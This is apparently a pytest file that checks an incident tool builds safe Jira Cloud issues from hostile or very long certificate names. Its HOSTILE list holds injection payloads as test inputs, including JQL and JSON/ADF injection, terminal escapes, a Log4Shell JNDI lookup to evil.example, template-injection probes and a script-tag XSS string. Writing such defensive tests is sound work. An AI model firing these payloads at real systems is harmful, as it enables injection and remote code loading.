"""Hostile and endless names, from the certificate to the create call: legal, within limits, and of one shape."""

import json
import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from incidentd.model.assessment import Step
from incidentd.model.certificate import Certificate
from incidentd.model.incident import Incident
from incidentd.model.inventory import Inventory
from incidentd.planning import wording
from incidentd.sandbox.jira import adf as judge
from incidentd.sandbox.jira.project import Project
from incidentd.sandbox.jira.rules import read_fields
from incidentd.sandbox.journal import RecordedRequest
from incidentd.trackers.jira import adf
from incidentd.trackers.jira.cloud import Cloud
from incidentd.trackers.jira.editing import creation
from incidentd.trackers.jira.screen import Screen
from tests.conformance.judge import FOLDER, judge_of
from tests.planning.desk import due, found, key_of
from tests.policy.builders import DAY, START, certificate, place
from tests.trackers.jira.test_render import shape

HOSTILE = [
    '" OR project = "SEC" ORDER BY created --',
    '{"type":"mention","attrs":{"id":"admin"}}',
    '"}],"content":[{"type":"inlineCard","attrs":{"url":"https://evil.example"}}',
    "\x1b[2J\x1b]0;owned\x07\x1b[31m",
    "{{7*7}}${jndi:ldap://evil.example/a}<%= 7 * 7 %>#{7*7}",
    "\u202eelpmaxe.ipa\u2066\u200b\ufeff",
    "{code}h1. [~admin] !https://evil.example/x.png! {html}",
    "<script>alert(1)</script><!-- &lt;",
    "a\r\n\x00b\u2028c\u2029d",
    "@all [x](javascript:alert(1)) :fire: *b* _i_",
    "\U0001f512" * 60,
    "e" + "\u0301" * 120,
    "\udcff\ud800",
]


def create_call(judged: Certificate, **labels: str) -> dict[str, Any]:
    """The body that its issue is created with."""
    assessment = due(judged, found(place(**labels)))
    known = Inventory({judged.fingerprint: judged})
    incident = Incident(key_of(judged), f"incidentd-default-{judged.fingerprint[:40]}", judged, assessment, "queue")
    said = wording.content(incident, Step.WARNING, None, known, START, DAY)
    return creation(said, Cloud(), "OPS", "Task", {}, Screen({"description": {}, "duedate": {}})).body


def problems_of(body: dict[str, Any]) -> list[str]:
    """By the sandbox's rules, by an independent reading of the format, and by the vendor's documents where they are."""
    _, errors = read_fields(Project("OPS", 10000, "Operations"), body["fields"], "create")
    told = [*map(str, errors.items()), *judge.problems(body["fields"]["description"])]
    if not FOLDER:
        return told
    headers = (("content-type", "application/json"), ("authorization", "Basic ***"))
    wire = json.dumps(body, ensure_ascii=False).encode()
    return told + judge_of("jira-cloud-v3")(
        RecordedRequest("POST", "https://a", "/rest/api/3/issue", "", headers, wire, START)
    )


def outline(body: dict[str, Any]) -> Any:
    """All but words: which fields, how many labels, which nodes with which attributes."""
    fields = body["fields"]
    return sorted(fields), len(fields["labels"]), shape(fields["description"])


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_makes_an_issue_like_any_other(name: str) -> None:
    """As the certificate's names, subject and issuer, and as labels of its place."""
    benign = create_call(certificate("a.example", subject="CN=a", issuer="CN=b"), env="prod", owner="sre")
    hostile = create_call(certificate(name, subject=name, issuer=name), env=name, owner=name)
    assert problems_of(hostile) == []
    assert outline(hostile) == outline(benign)
    assert len(hostile["fields"]["summary"]) <= 254


@settings(max_examples=40, deadline=None)
@given(st.text(min_size=1, max_size=80), st.text(min_size=1, max_size=40))
def test_any_name_makes_an_issue_like_any_other(name: str, label: str) -> None:
    """Whatever characters it is made of."""
    benign = create_call(certificate("a.example"), service="shop", team="sre")
    hostile = create_call(certificate(name), service=label, team=label)
    assert problems_of(hostile) == []
    assert outline(hostile) == outline(benign)


@pytest.mark.parametrize(
    ("name", "told"), [("host-{0}.example.net", 2), ("\U0001f512" * 60 + "{0}", 1)], ids=["plain", "wide"]
)
def test_three_thousand_names_make_a_legal_issue(name: str, told: int) -> None:
    """What is not shown is counted, at the top and in the details, which go first where the document is too long."""
    names = [name.format(number) for number in range(3_000)]
    body = create_call(certificate(*names), env="prod")
    assert problems_of(body) == []
    assert adf.size(body["fields"]["description"]) <= adf.CHARACTERS
    assert "+2999 names" in body["fields"]["summary"]
    shown = [line for line in adf.plain(body["fields"]["description"]).splitlines() if " and 29" in line]
    assert all(re.search(r" and 29\d\d more( expires|$)", line) for line in shown)
    assert len(shown) == told
